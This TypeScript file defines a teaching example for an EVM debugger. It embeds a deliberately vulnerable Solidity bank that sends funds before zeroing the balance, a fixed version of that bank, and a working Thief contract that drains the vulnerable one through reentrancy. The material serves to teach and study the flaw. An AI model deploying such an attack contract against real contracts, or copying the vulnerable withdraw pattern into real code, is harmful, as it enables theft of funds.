import { A, ALICE, B, BOB, C, code, type EvmExample, pane } from "./example";

const BANKS = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

abstract contract Bank {
    mapping(address => uint256) public balances;

    error NothingToWithdraw(address owner);
    error SendingFailed();

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external virtual;

    function send(uint256 amount) internal {
        (bool success, ) = msg.sender.call{value: amount}("");
        if (!success) revert SendingFailed();
    }
}

/// Sends the money, then writes down that it is gone.
contract NaiveBank is Bank {
    function withdraw() external override {
        uint256 amount = balances[msg.sender];
        if (amount == 0) revert NothingToWithdraw(msg.sender);
        send(amount);
        balances[msg.sender] = 0; // too late
    }
}

/// Writes down that the money is gone, then sends it.
contract CarefulBank is Bank {
    function withdraw() external override {
        uint256 amount = balances[msg.sender];
        if (amount == 0) revert NothingToWithdraw(msg.sender);
        balances[msg.sender] = 0; // first of all
        send(amount);
    }
}
`;

const THIEF = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

import {Bank} from "./Banks.sol";

contract Thief {
    uint256 public rounds;

    function attack(Bank bank) external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    /// Money comes in: while the bank has as much again, ask for more.
    receive() external payable {
        rounds++;
        if (msg.sender.balance >= msg.value) Bank(msg.sender).withdraw();
    }
}
`;

export const SOLIDITY_BANK: EvmExample = {
  id: "solidity_bank",
  summary: "Reentrancy in Solidity: one line too late, seen by stepping through three contracts.",
  about: [
    [
      "Two banks differ in the order of two lines. ",
      code("NaiveBank"),
      " sends before it writes down that the balance is zero. Sending runs the receiver's code, and the thief's code asks again.",
    ],
    [
      "Bob pays 3 wei into each bank. Then the thief pays in 1 wei and attacks: in transaction 3 ",
      code("withdraw"),
      " is entered four times, each within the last (see the ",
      pane("calls", "calls"),
      "), and the thief leaves with all of it.",
    ],
    [
      "In transaction 4 the careful bank has already forgotten the thief when it is asked again: ",
      code("NothingToWithdraw"),
      " fails the inner call, that fails the sending, and the whole attack is undone.",
    ],
  ],
  tries: [
    [
      "In transaction 3 go by lines into ",
      code("send"),
      ", and on: at which line does the thief's ",
      code("receive"),
      " come in, and what does ",
      code("balances[thief]"),
      " hold in ",
      pane("storage", "storage"),
      " then?",
    ],
    ["Go on until the innermost call returns. How often is ", code("balances[msg.sender] = 0"), " executed?"],
    ["In transaction 4 go to the failure. Whose call failed first?"],
  ],
  project: {
    title: "Solidity: a bank robbed",
    request: {
      fork: "Osaka",
      transactions: [
        { from: BOB, to: A, value: "3", call: { signature: "deposit()", values: [] } },
        { from: BOB, to: B, value: "3", call: { signature: "deposit()", values: [] } },
        { from: ALICE, to: C, value: "1", gas: 2_000_000, call: { signature: "attack(address)", values: [A] } },
        { from: ALICE, to: C, value: "1", gas: 2_000_000, call: { signature: "attack(address)", values: [B] } },
      ],
    },
    sources: [
      {
        name: "Banks.sol",
        language: "solidity",
        text: BANKS,
        address: A,
        contract: "NaiveBank",
        also: [{ contract: "CarefulBank", address: B }],
      },
      { name: "Thief.sol", language: "solidity", text: THIEF, address: C, contract: "Thief" },
    ],
    abi: [],
  },
};
